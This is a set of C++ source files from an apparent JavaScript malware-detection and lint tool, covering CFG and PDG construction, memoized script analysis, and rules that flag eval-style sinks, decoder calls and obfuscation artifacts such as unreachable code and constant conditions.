    case NodeKind::kWhileStatement:
    case NodeKind::kDoWhileStatement:
    case NodeKind::kForStatement:
    case NodeKind::kForInStatement:
    case NodeKind::kSwitchStatement:
    case NodeKind::kReturnStatement:
    case NodeKind::kThrowStatement:
    case NodeKind::kTryStatement:
    case NodeKind::kVariableDeclaration:
    case NodeKind::kFunctionDeclaration:
    case NodeKind::kBreakStatement:
    case NodeKind::kContinueStatement:
    case NodeKind::kWithStatement:
    case NodeKind::kLabeledStatement:
    case NodeKind::kDebuggerStatement:
      return true;
    default:
      return false;
  }
}

bool is_branching(NodeKind k) {
  switch (k) {
    case NodeKind::kIfStatement:
    case NodeKind::kWhileStatement:
    case NodeKind::kDoWhileStatement:
    case NodeKind::kForStatement:
    case NodeKind::kForInStatement:
    case NodeKind::kSwitchStatement:
    case NodeKind::kTryStatement:
      return true;
    default:
      return false;
  }
}

/// Nearest enclosing statement node of `n` (may be n itself).
const Node* enclosing_statement(const Node* n) {
  for (const Node* cur = n; cur != nullptr; cur = cur->parent) {
    if (is_statement_kind(cur->kind)) return cur;
  }
  return nullptr;
}

}  // namespace

std::size_t Pdg::control_edge_count() const {
  std::size_t n = 0;
  for (const auto& node : nodes_) n += node.control_succs.size();
  return n;
}

std::size_t Pdg::data_edge_count() const {
  std::size_t n = 0;
  for (const auto& node : nodes_) n += node.data_succs.size();
  return n;
}

Pdg build_pdg(const js::Node* program, [[maybe_unused]] const ScopeInfo& scopes,
              const DataFlowInfo& dataflow) {
  Pdg pdg;

  // Collect statement nodes in preorder.
  js::walk(program, [&pdg](const Node* n) {
    if (is_statement_kind(n->kind)) {
      PdgNode pn;
      pn.stmt = n;
      pdg.index_.emplace(n, pdg.nodes_.size());
      pdg.nodes_.push_back(pn);
    }
    return true;
  });

  // Control dependence: every statement depends on the nearest enclosing
  // branching statement (transitively captured by chaining).
  for (std::size_t i = 0; i < pdg.nodes_.size(); ++i) {
    const Node* stmt = pdg.nodes_[i].stmt;
    for (const Node* p = stmt->parent; p != nullptr; p = p->parent) {
      if (is_statement_kind(p->kind) && is_branching(p->kind)) {
        const std::size_t src = pdg.node_for(p);
        if (src != Pdg::npos) pdg.nodes_[src].control_succs.push_back(i);
        break;
      }
      // Stop at function boundaries: dependence is intraprocedural.
      if (p->is_function()) break;
    }
  }

  // Data dependence: project identifier-level def-use edges to statements.
  for (const DataFlowEdge& e : dataflow.edges()) {
    const Node* s1 = enclosing_statement(e.def);
    const Node* s2 = enclosing_statement(e.use);
    if (s1 == nullptr || s2 == nullptr || s1 == s2) continue;
    const std::size_t a = pdg.node_for(s1);
    const std::size_t b = pdg.node_for(s2);
    if (a == Pdg::npos || b == Pdg::npos) continue;
    // Deduplicate repeated edges between the same statements.
    auto& succs = pdg.nodes_[a].data_succs;
    if (std::find(succs.begin(), succs.end(), b) == succs.end()) {
      succs.push_back(b);
    }
  }

  return pdg;
}

}  // namespace jsrev::analysis
