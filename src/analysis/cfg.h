// Intraprocedural control-flow graph over statement-level AST nodes.
//
// One CFG is built per function body (and one for the top-level program).
// Nodes are statements; edges follow execution order through structured
// control flow, including branch/loop/switch/try shapes and break/continue
// with optional labels. This granularity matches what JSTAP's control-flow
// layer consumes.
#pragma once

#include <cstddef>
#include <string>
#include <unordered_map>
#include <vector>

#include "js/ast.h"

namespace jsrev::analysis {

struct CfgNode {
  const js::Node* stmt = nullptr;  // underlying AST statement (or expression)
  std::vector<std::size_t> succs;
  std::vector<std::size_t> preds;
  bool is_entry = false;
  bool is_exit = false;
};

class Cfg {
 public:
  const std::vector<CfgNode>& nodes() const { return nodes_; }
  std::size_t entry() const { return entry_; }
  std::size_t exit() const { return exit_; }

  /// Index of the CFG node owning `stmt`, or npos.
  std::size_t node_for(const js::Node* stmt) const {
    const auto it = index_.find(stmt);
    return it == index_.end() ? npos : it->second;
  }

  static constexpr std::size_t npos = static_cast<std::size_t>(-1);

 private:
  friend class CfgBuilder;
  std::vector<CfgNode> nodes_;
  std::unordered_map<const js::Node*, std::size_t> index_;
  std::size_t entry_ = 0;
  std::size_t exit_ = 0;
};

/// Builds the CFG for a function body or program node (a statement list
/// owner: Program, BlockStatement of a function, ...).
Cfg build_cfg(const js::Node* body);

/// Builds one CFG per function in the program plus one for the top level.
std::vector<Cfg> build_all_cfgs(const js::Node* program);

}  // namespace jsrev::analysis
