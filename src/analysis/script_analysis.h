// Parse-once program-analysis artifact shared by detectors, lint, and
// benches.
//
// A ScriptAnalysis owns one script's source text and every representation
// derived from it: the lexical token stream, the AST, scope resolution,
// data-flow edges, per-function CFGs, and the statement-level PDG. Each
// representation is computed on first access and memoized behind a
// std::once_flag, so concurrent consumers (the per-script detector fan-outs)
// share a single computation instead of re-deriving it per consumer — one
// multi-detector evaluation parses each script exactly once.
//
// Frontend failure is carried as a value (parse_failed()/parse_error())
// instead of an exception, and the repository-wide "unparseable input ⇒
// classified malicious" convention lives here (kUnparseableVerdict /
// classify_or_malicious) rather than in per-detector try/catch blocks.
#pragma once

#include <atomic>
#include <cstddef>
#include <memory>
#include <mutex>
#include <string>
#include <vector>

#include "analysis/cfg.h"
#include "analysis/dataflow.h"
#include "analysis/pdg.h"
#include "analysis/scope.h"
#include "js/ast.h"
#include "js/parse_limits.h"
#include "js/token.h"
#include "obs/provenance.h"

namespace jsrev::analysis {

class ScriptAnalysis {
 public:
  /// Verdict every detector returns for input its frontend rejects (all the
  /// compared tools refuse scripts they cannot process; the paper's
  /// evaluation counts such scripts as malicious).
  static constexpr int kUnparseableVerdict = 1;

  /// `limits` bounds the frontend's resources (recursion depth, source
  /// bytes, token count); exceeding a limit lands in the same
  /// parse-failed-as-a-value state as a syntax error.
  ///
  /// With `deobfuscate` set, the parse step statically normalizes the
  /// program through the src/deob fixpoint pipeline, then re-parses the
  /// printed result: every downstream consumer — source(), tokens(), the
  /// AST and all derived analyses, lint excerpts with their line numbers —
  /// observes the normalized script, consistently. Unparseable input is
  /// unaffected (normalization needs an AST).
  explicit ScriptAnalysis(std::string source, js::ParseLimits limits = {},
                          bool deobfuscate = false)
      : source_(std::move(source)),
        limits_(limits),
        deobfuscate_(deobfuscate) {}

  // Memoization state (once-flags) pins the object in place.
  ScriptAnalysis(const ScriptAnalysis&) = delete;
  ScriptAnalysis& operator=(const ScriptAnalysis&) = delete;

  /// The script's text. Under `deobfuscate` this is the normalized source
  /// (forcing the parse+normalize on first access), so consumers that
  /// re-lex or excerpt by line agree with the AST.
  const std::string& source() const {
    if (deobfuscate_) ensure_parsed();
    return source_;
  }

  /// Parses on first call; never throws — failure is a value.
  bool parse_failed() const;
  /// The frontend's message when parse_failed(), empty otherwise.
  const std::string& parse_error() const;

  /// Root of the finalized AST, or nullptr when the source does not parse.
  const js::Node* root() const;

  /// Wall-clock cost of this script's parse (0.0 until the parse runs).
  double parse_ms() const;

  /// True when the parse failure came from a ParseLimits bound (depth,
  /// source bytes, token count) rather than malformed syntax.
  bool parse_limit_trip() const;

  /// Claims this script's parse cost for per-stage accounting: the first
  /// caller receives parse_ms(), every later caller receives 0.0. Detectors
  /// sampling stage timings use this so re-evaluating a warm analysis does
  /// not re-book a parse that never re-ran (the memoized cost would
  /// otherwise inflate the stage's work/wall speedup without bound).
  double take_parse_cost() const;

  /// Opt-in verdict provenance: after enable_provenance(), a
  /// provenance-aware detector (JsRevealer) fills the record as classify()
  /// runs. provenance() stays null until enabled.
  void enable_provenance();
  obs::VerdictProvenance* provenance() const { return provenance_.get(); }

  /// Lexical token stream (ending with kEof), lexed independently of the
  /// parser so token-level consumers (CUJO) never force a parse; nullptr
  /// when the source does not lex.
  const std::vector<js::Token>* tokens() const;

  // Derived analyses, each computed at most once. Precondition: the script
  // parsed (std::logic_error otherwise — gate on parse_failed() or go
  // through classify_or_malicious).
  const ScopeInfo& scopes() const;
  const DataFlowInfo& dataflow() const;      // forces scopes()
  const std::vector<Cfg>& cfgs() const;
  const Pdg& pdg() const;                    // forces scopes() + dataflow()

  /// The shared unparseable-input convention: runs `fn` (the detector's
  /// real classification) when the script parsed, else returns
  /// kUnparseableVerdict.
  template <typename Fn>
  int classify_or_malicious(Fn&& fn) const {
    if (parse_failed()) return kUnparseableVerdict;
    return std::forward<Fn>(fn)();
  }

 private:
  void ensure_parsed() const;
  void normalize() const;    // deob pipeline + reprint + reparse
  void require_ast() const;  // throws std::logic_error on parse failure

  mutable std::string source_;  // rewritten once under deobfuscate_
  js::ParseLimits limits_;
  bool deobfuscate_ = false;

  mutable std::once_flag parse_once_;
  mutable js::Ast ast_;
  mutable bool parse_ok_ = false;
  mutable std::string parse_error_;
  mutable double parse_ms_ = 0.0;
  mutable std::atomic<bool> parse_cost_taken_{false};
  std::unique_ptr<obs::VerdictProvenance> provenance_;

  mutable std::once_flag tokens_once_;
  mutable std::unique_ptr<std::vector<js::Token>> tokens_;  // null: lex error

  mutable std::once_flag scopes_once_;
  mutable std::unique_ptr<ScopeInfo> scopes_;

  mutable std::once_flag dataflow_once_;
  mutable std::unique_ptr<DataFlowInfo> dataflow_;

  mutable std::once_flag cfgs_once_;
  mutable std::unique_ptr<std::vector<Cfg>> cfgs_;

  mutable std::once_flag pdg_once_;
  mutable std::unique_ptr<Pdg> pdg_;
};

/// A corpus's scripts with their shared analyses, built once (in parallel)
/// and handed to every detector of a multi-detector evaluation. labels[i]
/// mirrors the originating dataset::Corpus sample's label.
struct AnalyzedCorpus {
  std::vector<std::unique_ptr<ScriptAnalysis>> scripts;
  std::vector<int> labels;

  std::size_t size() const noexcept { return scripts.size(); }
};

}  // namespace jsrev::analysis
