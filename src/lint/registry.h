// Rule registry: the default rule set and its metadata catalog.
#pragma once

#include <memory>
#include <string>
#include <vector>

#include "lint/rule.h"

namespace jsrev::lint {

/// Implemented in rules_malice.cpp / rules_hygiene.cpp.
void append_malice_rules(std::vector<std::unique_ptr<Rule>>* rules);
void append_hygiene_rules(std::vector<std::unique_ptr<Rule>>* rules);

/// All built-in rules, in stable id order (M01.., then H01..).
std::vector<std::unique_ptr<Rule>> make_default_rules();

/// One catalog row per rule (for reports, docs, and the CLI's --rules).
struct RuleMeta {
  std::string id;
  std::string name;
  Severity severity;
  Category category;
  std::string description;
};

std::vector<RuleMeta> rule_catalog();

}  // namespace jsrev::lint
