// Report rendering for lint results: a human-readable text report and a
// machine-readable JSON document (consumed by `jsr_lint --json` and tests).
#pragma once

#include <string>
#include <vector>

#include "lint/linter.h"

namespace jsrev::lint {

/// One linted input with a display name (usually the file path).
struct NamedResult {
  std::string name;
  LintResult result;
};

/// Renders a `file:line: severity [id] message` listing per input, followed
/// by a summary block (inputs, parse failures, diagnostics by severity).
std::string render_text(const std::vector<NamedResult>& results);

/// Renders a stable JSON document:
/// {"inputs":[{"name","parse_failed","parse_error"?,"diagnostics":[...],
///             "summary":{...}}],"totals":{...}}
std::string render_json(const std::vector<NamedResult>& results);

}  // namespace jsrev::lint
