#include "lint/registry.h"

namespace jsrev::lint {

std::vector<std::unique_ptr<Rule>> make_default_rules() {
  std::vector<std::unique_ptr<Rule>> rules;
  append_malice_rules(&rules);
  append_hygiene_rules(&rules);
  return rules;
}

std::vector<RuleMeta> rule_catalog() {
  std::vector<RuleMeta> out;
  for (const auto& rule : make_default_rules()) {
    RuleMeta m;
    m.id = std::string(rule->id());
    m.name = std::string(rule->name());
    m.severity = rule->severity();
    m.category = rule->category();
    m.description = std::string(rule->description());
    out.push_back(std::move(m));
  }
  return out;
}

}  // namespace jsrev::lint
