// Small AST pattern-matching helpers shared by the lint rules.
//
// Internal to src/lint — not part of the public lint API.
#pragma once

#include <string_view>

#include "js/ast.h"

namespace jsrev::lint {

inline bool is_identifier(const js::Node* n, std::string_view name) {
  return n != nullptr && n->kind == js::NodeKind::kIdentifier &&
         n->str == name;
}

inline bool is_string_literal(const js::Node* n) {
  return n != nullptr && n->kind == js::NodeKind::kLiteral &&
         n->lit == js::LiteralType::kString;
}

inline bool is_literal(const js::Node* n) {
  return n != nullptr && n->kind == js::NodeKind::kLiteral;
}

inline bool is_call_like(const js::Node* n) {
  return n != nullptr && (n->kind == js::NodeKind::kCallExpression ||
                          n->kind == js::NodeKind::kNewExpression);
}

/// Callee of a Call/NewExpression, nullptr otherwise.
inline const js::Node* callee_of(const js::Node* n) {
  return is_call_like(n) && !n->children.empty() ? n->children[0] : nullptr;
}

/// First argument of a Call/NewExpression, nullptr when absent.
inline const js::Node* first_arg_of(const js::Node* n) {
  return is_call_like(n) && n->children.size() > 1 ? n->children[1] : nullptr;
}

/// Matches a non-computed member access `obj.prop` with both names fixed.
inline bool is_member(const js::Node* n, std::string_view obj,
                      std::string_view prop) {
  return n != nullptr && n->kind == js::NodeKind::kMemberExpression &&
         !n->has_flag(js::Node::kComputed) && is_identifier(n->children[0], obj) &&
         is_identifier(n->children[1], prop);
}

/// Matches a non-computed member access `<anything>.prop`.
inline bool is_member_prop(const js::Node* n, std::string_view prop) {
  return n != nullptr && n->kind == js::NodeKind::kMemberExpression &&
         !n->has_flag(js::Node::kComputed) &&
         is_identifier(n->children[1], prop);
}

/// Call whose result is attacker-decodable plaintext: atob, unescape,
/// decodeURIComponent, decodeURI, or String.fromCharCode.
inline bool is_decoder_call(const js::Node* n) {
  const js::Node* callee = callee_of(n);
  if (callee == nullptr) return false;
  if (callee->kind == js::NodeKind::kIdentifier) {
    return callee->str == "atob" || callee->str == "unescape" ||
           callee->str == "decodeURIComponent" || callee->str == "decodeURI";
  }
  return is_member(callee, "String", "fromCharCode");
}

/// Call that evaluates a string as code (or injects it into the document):
/// eval, execScript, Function, setTimeout/setInterval, document.write(ln).
inline bool is_exec_sink_call(const js::Node* n) {
  const js::Node* callee = callee_of(n);
  if (callee == nullptr) return false;
  if (callee->kind == js::NodeKind::kIdentifier) {
    return callee->str == "eval" || callee->str == "execScript" ||
           callee->str == "Function" || callee->str == "setTimeout" ||
           callee->str == "setInterval";
  }
  return is_member(callee, "document", "write") ||
         is_member(callee, "document", "writeln") ||
         is_member_prop(callee, "setTimeout") ||
         is_member_prop(callee, "setInterval");
}

/// True if `n` sits in the argument list of `call` (any depth inside an
/// argument expression). Requires finalized parent links.
inline bool is_inside_args_of(const js::Node* n, const js::Node* call) {
  const js::Node* prev = n;
  for (const js::Node* p = n->parent; p != nullptr; p = p->parent) {
    if (p == call) {
      // Reached the call: `n` is inside an argument iff the child we came
      // from is not the callee slot.
      return prev != call->children[0];
    }
    prev = p;
  }
  return false;
}

/// The value expression assigned at a write-site identifier `def`
/// (declarator init or assignment RHS), nullptr for other write shapes
/// (update expressions, for-in targets). Requires finalized parent links.
inline const js::Node* assigned_value_of(const js::Node* def) {
  const js::Node* parent = def->parent;
  if (parent == nullptr) return nullptr;
  if (parent->kind == js::NodeKind::kVariableDeclarator &&
      parent->children.size() > 1 && parent->children[0] == def) {
    return parent->children[1];
  }
  if (parent->kind == js::NodeKind::kAssignmentExpression &&
      parent->children[0] == def) {
    return parent->children[1];
  }
  return nullptr;
}

/// Nearest enclosing Call/NewExpression that is an exec sink and has `n`
/// inside its argument list; nullptr if none.
inline const js::Node* enclosing_exec_sink(const js::Node* n) {
  const js::Node* prev = n;
  for (const js::Node* p = n->parent; p != nullptr; prev = p, p = p->parent) {
    if (is_exec_sink_call(p) && prev != p->children[0]) return p;
  }
  return nullptr;
}

}  // namespace jsrev::lint
