// Semantic-hygiene rules (H01-H05).
//
// These consume the scope and control-flow analyses: dynamic-scope escapes
// (`with`), sloppy global writes, unreachable statements, write-only
// variables, and constant conditions (a common dead-code-injection artifact
// of obfuscators).
#include <unordered_set>

#include "js/visitor.h"
#include "lint/ast_match.h"
#include "lint/registry.h"
#include "lint/rule.h"

namespace jsrev::lint {
namespace {

using js::Node;
using js::NodeKind;

// H01: `with` — defeats lexical scoping and every static analysis.
class WithStatementRule final : public Rule {
 public:
  WithStatementRule()
      : Rule("H01", "with-statement", Severity::kWarning, Category::kHygiene,
             "with statement (dynamic scope, blocks static analysis)") {}

  void run(const LintContext& ctx, std::vector<Diagnostic>* out) const override {
    js::walk_all(ctx.program, [&](const Node* n) {
      if (n->kind == NodeKind::kWithStatement) {
        out->push_back(diag(n, "with statement"));
      }
    });
  }
};

// H02: assignment to an identifier that was never declared — creates a
// sloppy-mode global. Well-known host objects are exempt.
class UndeclaredAssignmentRule final : public Rule {
 public:
  UndeclaredAssignmentRule()
      : Rule("H02", "undeclared-assignment", Severity::kWarning,
             Category::kHygiene,
             "assignment to an undeclared identifier (implicit global)") {}

  void run(const LintContext& ctx, std::vector<Diagnostic>* out) const override {
    static const std::unordered_set<std::string> kHostGlobals = {
        "window",  "document", "navigator", "console", "location",
        "onload",  "onerror",  "onclick",   "module",  "exports",
        "self",    "top",      "parent",    "opener",  "event",
    };
    for (const auto& sym : ctx.scopes->symbols()) {
      if (!sym->is_global_implicit || sym->writes.empty()) continue;
      if (kHostGlobals.count(sym->name) != 0) continue;
      out->push_back(diag(sym->writes.front(),
                          "'" + sym->name + "' is assigned but never declared"));
    }
  }
};

// H03: statements the CFG never reaches (code after return/throw/break).
// Function declarations are exempt: they are hoisted and callable even when
// placed after a return. Reports only the outermost unreachable statement.
class UnreachableCodeRule final : public Rule {
 public:
  UnreachableCodeRule()
      : Rule("H03", "unreachable-code", Severity::kWarning, Category::kHygiene,
             "statement unreachable in the control-flow graph") {}

  void run(const LintContext& ctx, std::vector<Diagnostic>* out) const override {
    if (ctx.cfgs == nullptr || ctx.cfgs->empty()) return;
    // Body roots in build_all_cfgs order: the program, then each function's
    // block in preorder.
    std::vector<const Node*> bodies;
    bodies.push_back(ctx.program);
    js::walk(ctx.program, [&bodies](const Node* n) {
      if (n->is_function()) bodies.push_back(n->children.back());
      return true;
    });
    const std::size_t count = std::min(bodies.size(), ctx.cfgs->size());
    for (std::size_t i = 0; i < count; ++i) {
      scan(bodies[i], (*ctx.cfgs)[i], /*reported_ancestor=*/false, out);
    }
  }

 private:
  // Kinds the CFG builder materializes as nodes; everything else (blocks,
  // labels, case clauses) is structural and owns no CFG node of its own.
  static bool cfg_emitted_kind(const Node* n) {
    switch (n->kind) {
      case NodeKind::kExpressionStatement:
      case NodeKind::kIfStatement:
      case NodeKind::kWhileStatement:
      case NodeKind::kDoWhileStatement:
      case NodeKind::kForStatement:
      case NodeKind::kForInStatement:
      case NodeKind::kSwitchStatement:
      case NodeKind::kTryStatement:
      case NodeKind::kReturnStatement:
      case NodeKind::kThrowStatement:
      case NodeKind::kBreakStatement:
      case NodeKind::kContinueStatement:
      case NodeKind::kWithStatement:
      case NodeKind::kDebuggerStatement:
        return true;
      case NodeKind::kVariableDeclaration:
        // for(var i;...) / for(var k in o) heads live inside the loop node.
        return n->parent == nullptr ||
               (n->parent->kind != NodeKind::kForStatement &&
                n->parent->kind != NodeKind::kForInStatement);
      default:
        return false;
    }
  }

  // Walks the statement tree of one function body (not descending into
  // nested functions) and reports emittable statements missing from the CFG.
  void scan(const Node* n, const analysis::Cfg& cfg, bool reported_ancestor,
            std::vector<Diagnostic>* out) const {
    if (n == nullptr) return;
    bool reported = reported_ancestor;
    if (!reported_ancestor && cfg_emitted_kind(n) &&
        cfg.node_for(n) == analysis::Cfg::npos) {
      out->push_back(diag(n, "unreachable statement"));
      reported = true;
    }
    for (const Node* child : n->children) {
      if (child != nullptr && child->is_function()) continue;
      scan(child, cfg, reported, out);
    }
  }
};

// H04: variables that are only ever written — every reference is a write,
// so the stored value can never be observed. (Obfuscator dead-store
// injection produces these; so do plain bugs.)
class WriteOnlyVariableRule final : public Rule {
 public:
  WriteOnlyVariableRule()
      : Rule("H04", "write-only-variable", Severity::kInfo, Category::kHygiene,
             "variable written but never read") {}

  void run(const LintContext& ctx, std::vector<Diagnostic>* out) const override {
    for (const auto& sym : ctx.scopes->symbols()) {
      // Parameters are written by every call; implicit globals may be read
      // by other scripts on the page; function bindings have no write sites.
      if (sym->is_parameter || sym->is_function || sym->is_global_implicit) {
        continue;
      }
      if (sym->writes.empty() ||
          sym->writes.size() != sym->references.size()) {
        continue;
      }
      out->push_back(diag(sym->writes.front(),
                          "'" + sym->name + "' is written but never read"));
    }
  }
};

// H05: if / ternary with a literal condition — one branch is dead. A
// signature of obfuscator-injected opaque predicates and leftover debug code.
class ConstantConditionRule final : public Rule {
 public:
  ConstantConditionRule()
      : Rule("H05", "constant-condition", Severity::kInfo, Category::kHygiene,
             "branch condition is a constant") {}

  void run(const LintContext& ctx, std::vector<Diagnostic>* out) const override {
    js::walk_all(ctx.program, [&](const Node* n) {
      if (n->kind != NodeKind::kIfStatement &&
          n->kind != NodeKind::kConditionalExpression) {
        return;
      }
      if (is_constant(n->children[0])) {
        out->push_back(diag(n, "condition always evaluates the same way"));
      }
    });
  }

 private:
  static bool is_constant(const Node* test) {
    if (is_literal(test)) return true;
    return test->kind == NodeKind::kUnaryExpression && test->str == "!" &&
           is_constant(test->children[0]);
  }
};

}  // namespace

void append_hygiene_rules(std::vector<std::unique_ptr<Rule>>* rules) {
  rules->push_back(std::make_unique<WithStatementRule>());
  rules->push_back(std::make_unique<UndeclaredAssignmentRule>());
  rules->push_back(std::make_unique<UnreachableCodeRule>());
  rules->push_back(std::make_unique<WriteOnlyVariableRule>());
  rules->push_back(std::make_unique<ConstantConditionRule>());
}

}  // namespace jsrev::lint
