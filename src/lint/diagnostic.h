// Structured findings emitted by the semantic lint engine.
//
// A Diagnostic anchors one rule violation to a source span (the 1-based line
// of the offending construct) together with a printer-generated code excerpt,
// so reports stay readable even for minified or obfuscated one-line inputs.
#pragma once

#include <cstdint>
#include <string>
#include <string_view>

namespace jsrev::lint {

enum class Severity : std::uint8_t {
  kInfo,     // stylistic / weak signal
  kWarning,  // suspicious construct or hygiene defect
  kError,    // strong malice indicator
};

inline constexpr int kSeverityCount = 3;

enum class Category : std::uint8_t {
  kMalice,   // constructs correlated with malicious payload delivery
  kHygiene,  // semantic defects (unreachable code, write-only vars, ...)
};

inline constexpr int kCategoryCount = 2;

std::string_view severity_name(Severity s) noexcept;
std::string_view category_name(Category c) noexcept;

/// Contribution of one diagnostic to the severity-weighted lint score.
double severity_weight(Severity s) noexcept;

struct Diagnostic {
  std::string rule_id;    // stable short id, e.g. "M01"
  std::string rule_name;  // kebab-case name, e.g. "eval-non-literal"
  Severity severity = Severity::kWarning;
  Category category = Category::kHygiene;
  std::uint32_t line = 0;  // 1-based source line; 0 if unknown
  std::string node_kind;   // ESTree kind of the anchor node
  std::string message;     // human-readable explanation
  std::string excerpt;     // minified re-print of the anchor node, truncated
};

}  // namespace jsrev::lint
