// Rule interface for the semantic lint engine.
//
// A rule inspects one script through the LintContext — the AST plus the
// scope, data-flow, and control-flow analyses computed once by the Linter —
// and appends Diagnostics for every violation it finds. Rules are stateless
// and const, so one rule instance can lint many scripts concurrently.
#pragma once

#include <string>
#include <string_view>
#include <vector>

#include "analysis/cfg.h"
#include "analysis/dataflow.h"
#include "analysis/scope.h"
#include "js/ast.h"
#include "lint/diagnostic.h"

namespace jsrev::lint {

/// Per-script analysis bundle handed to every rule. All pointers are owned
/// by the Linter and valid for the duration of the rule's run() call.
struct LintContext {
  const js::Node* program = nullptr;
  const analysis::ScopeInfo* scopes = nullptr;
  const analysis::DataFlowInfo* dataflow = nullptr;
  const std::vector<analysis::Cfg>* cfgs = nullptr;  // program + per function
};

class Rule {
 public:
  Rule(std::string_view id, std::string_view name, Severity severity,
       Category category, std::string_view description)
      : id_(id),
        name_(name),
        severity_(severity),
        category_(category),
        description_(description) {}
  virtual ~Rule() = default;

  Rule(const Rule&) = delete;
  Rule& operator=(const Rule&) = delete;

  std::string_view id() const noexcept { return id_; }
  std::string_view name() const noexcept { return name_; }
  Severity severity() const noexcept { return severity_; }
  Category category() const noexcept { return category_; }
  std::string_view description() const noexcept { return description_; }

  /// Appends one Diagnostic per violation. Must not throw on any parseable
  /// input (enforced by the lint property test).
  virtual void run(const LintContext& ctx,
                   std::vector<Diagnostic>* out) const = 0;

 protected:
  /// Fills the rule's metadata, the anchor's line/kind, and a minified code
  /// excerpt (truncated) — rules only supply the message.
  Diagnostic diag(const js::Node* anchor, std::string message) const;

 private:
  std::string id_;
  std::string name_;
  Severity severity_;
  Category category_;
  std::string description_;
};

}  // namespace jsrev::lint
