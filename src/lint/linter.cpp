#include "lint/linter.h"

#include <algorithm>

#include "obs/trace.h"
#include "util/thread_pool.h"

namespace jsrev::lint {

Linter::Linter(std::vector<std::unique_ptr<Rule>> rules)
    : rules_(std::move(rules)) {
  auto& reg = obs::metrics();
  hits_.reserve(rules_.size());
  for (const auto& rule : rules_) {
    hits_.push_back(
        reg.counter("lint.rule_hits", {{"rule", std::string(rule->id())}}));
  }
  scripts_ = reg.counter("lint.scripts");
  parse_failures_ = reg.counter("lint.parse_failures");
}

LintResult Linter::lint(const std::string& source) const {
  return lint(analysis::ScriptAnalysis(source));
}

LintResult Linter::lint(const analysis::ScriptAnalysis& analysis) const {
  obs::Span span("lint.script", "lint");
  scripts_->add();
  LintResult result;
  if (analysis.parse_failed()) {
    parse_failures_->add();
    result.parse_failed = true;
    result.parse_error = analysis.parse_error();
    return result;
  }

  LintContext ctx;
  ctx.program = analysis.root();
  ctx.scopes = &analysis.scopes();
  ctx.dataflow = &analysis.dataflow();
  ctx.cfgs = &analysis.cfgs();

  for (std::size_t i = 0; i < rules_.size(); ++i) {
    const std::size_t before = result.diagnostics.size();
    rules_[i]->run(ctx, &result.diagnostics);
    hits_[i]->add(result.diagnostics.size() - before);
  }
  return result;
}

std::vector<LintResult> Linter::lint_all(
    const std::vector<std::string>& sources, std::size_t threads) const {
  std::vector<LintResult> results(sources.size());
  parallel_for_threads(threads, sources.size(), [&](std::size_t i) {
    results[i] = lint(sources[i]);
  });
  return results;
}

std::vector<LintResult> Linter::lint_all(
    const std::vector<std::unique_ptr<analysis::ScriptAnalysis>>& scripts,
    std::size_t threads) const {
  std::vector<LintResult> results(scripts.size());
  parallel_for_threads(threads, scripts.size(), [&](std::size_t i) {
    results[i] = lint(*scripts[i]);
  });
  return results;
}

std::vector<double> lint_feature_vector(const LintResult& result) {
  std::vector<double> f(kLintFeatureDim, 0.0);
  std::vector<std::string_view> fired;
  for (const Diagnostic& d : result.diagnostics) {
    f[static_cast<std::size_t>(d.category)] += 1.0;
    f[kCategoryCount] += severity_weight(d.severity);
    fired.push_back(d.rule_id);
  }
  std::sort(fired.begin(), fired.end());
  f[kCategoryCount + 1] = static_cast<double>(
      std::unique(fired.begin(), fired.end()) - fired.begin());
  return f;
}

const std::vector<std::string>& lint_feature_names() {
  static const std::vector<std::string> names = {
      "malice_diags", "hygiene_diags", "weighted_score", "rules_fired"};
  return names;
}

}  // namespace jsrev::lint
