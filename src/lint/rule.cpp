#include "lint/rule.h"

#include "js/printer.h"

namespace jsrev::lint {

std::string_view severity_name(Severity s) noexcept {
  switch (s) {
    case Severity::kInfo: return "info";
    case Severity::kWarning: return "warning";
    case Severity::kError: return "error";
  }
  return "?";
}

std::string_view category_name(Category c) noexcept {
  switch (c) {
    case Category::kMalice: return "malice";
    case Category::kHygiene: return "hygiene";
  }
  return "?";
}

double severity_weight(Severity s) noexcept {
  switch (s) {
    case Severity::kInfo: return 1.0;
    case Severity::kWarning: return 2.0;
    case Severity::kError: return 4.0;
  }
  return 0.0;
}

namespace {

constexpr std::size_t kMaxExcerpt = 80;

std::string excerpt_for(const js::Node* anchor) {
  if (anchor == nullptr) return {};
  std::string text = js::print(anchor, js::PrintStyle::kMinified);
  // Collapse the newlines a pretty-printed block may still contain.
  for (char& c : text) {
    if (c == '\n' || c == '\t') c = ' ';
  }
  if (text.size() > kMaxExcerpt) {
    text.resize(kMaxExcerpt - 3);
    text += "...";
  }
  return text;
}

}  // namespace

Diagnostic Rule::diag(const js::Node* anchor, std::string message) const {
  Diagnostic d;
  d.rule_id = id_;
  d.rule_name = name_;
  d.severity = severity_;
  d.category = category_;
  d.message = std::move(message);
  if (anchor != nullptr) {
    d.line = anchor->line;
    d.node_kind = std::string(js::node_kind_name(anchor->kind));
    d.excerpt = excerpt_for(anchor);
  }
  return d;
}

}  // namespace jsrev::lint
