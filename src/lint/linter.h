// The lint driver: executes every registered rule over one script's shared
// LintContext (AST + scope/data-flow/CFG analyses).
//
// Analyses come from the parse-once ScriptAnalysis layer: lint(analysis)
// reuses whatever the caller (e.g. the detector's featurizer) already
// computed, and the string overload builds a private ScriptAnalysis, so a
// script is never parsed twice on lint's account.
//
// lint() is const and thread-safe (rules are stateless), so lint_all() fans
// scripts out across the shared ThreadPool with the repository's determinism
// discipline: per-script results land in index slots, and within one script
// rules run in registration order — output is bit-identical at any width.
#pragma once

#include <cstddef>
#include <memory>
#include <string>
#include <vector>

#include "analysis/script_analysis.h"
#include "lint/registry.h"
#include "lint/rule.h"
#include "obs/metrics.h"

namespace jsrev::lint {

struct LintResult {
  std::vector<Diagnostic> diagnostics;  // rule order, then source order
  bool parse_failed = false;
  std::string parse_error;  // populated when parse_failed
};

class Linter {
 public:
  /// Default-constructs with the full built-in rule set.
  Linter() : Linter(make_default_rules()) {}
  explicit Linter(std::vector<std::unique_ptr<Rule>> rules);

  const std::vector<std::unique_ptr<Rule>>& rules() const { return rules_; }

  /// Lints one script. Parse failures are reported in the result, not
  /// thrown; rules run only on parseable input.
  LintResult lint(const std::string& source) const;

  /// Lints a pre-analyzed script, sharing its memoized scope/data-flow/CFG
  /// artifacts with every other consumer of the same ScriptAnalysis.
  LintResult lint(const analysis::ScriptAnalysis& analysis) const;

  /// Lints many scripts, fanning out per script at the given width
  /// (0 = hardware concurrency, 1 = serial). Deterministic at any width.
  std::vector<LintResult> lint_all(const std::vector<std::string>& sources,
                                   std::size_t threads = 0) const;

  /// Parse-once batch variant over pre-built analyses.
  std::vector<LintResult> lint_all(
